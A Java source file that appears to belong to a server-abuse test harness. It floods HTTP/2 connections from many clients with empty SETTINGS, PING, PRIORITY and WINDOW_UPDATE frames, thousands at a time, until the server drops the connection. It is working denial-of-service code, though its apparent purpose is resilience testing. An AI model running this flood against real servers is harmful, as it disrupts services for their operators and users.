package io.glebe.api.abuse;

import io.glebe.api.http.RawHttp2;
import java.io.InputStream;
import java.net.Socket;
import java.net.SocketException;
import java.nio.ByteBuffer;

/** HTTP/2 connections with frames that carry nothing, of four types in turn. */
record ControlFrames(int clients) implements Abuse {
  private static final int WINDOW = 65_535;
  private static final int AT_ONCE = 4_000;
  private static final int STREAM = 3;

  @Override
  public void start(AbuseConnections connections) {
    connections.repeat(
        clients,
        () -> {
          Socket socket = connections.http();
          try {
            sendFrames(new RawHttp2(socket, WINDOW), socket.getInputStream());
          } catch (SocketException closed) {
            connections.count("closed by the server");
          } finally {
            connections.reset(socket);
          }
        });
  }

  /** Goes on until the server closes the connection. */
  private static void sendFrames(RawHttp2 http2, InputStream in) throws java.io.IOException {
    byte[] one = ByteBuffer.allocate(Integer.BYTES).putInt(1).array();
    while (true) {
      http2.control(RawHttp2.SETTINGS, 0, new byte[0], AT_ONCE);
      http2.control(RawHttp2.PING, 0, new byte[Long.BYTES], AT_ONCE);
      http2.control(RawHttp2.PRIORITY_FRAME, STREAM, new byte[Integer.BYTES + 1], AT_ONCE);
      http2.control(RawHttp2.WINDOW_UPDATE, 0, one, AT_ONCE);
      in.skipNBytes(in.available());
    }
  }
}
